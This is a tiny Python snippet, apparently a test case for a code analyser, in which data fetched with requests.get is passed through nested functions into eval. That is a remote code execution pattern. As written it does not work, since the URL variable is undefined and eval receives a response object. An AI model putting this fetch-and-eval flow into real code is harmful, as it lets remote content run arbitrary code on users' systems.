import requests


def f(x):
    def g(): eval(x)
    g()


f(requests.get(u))
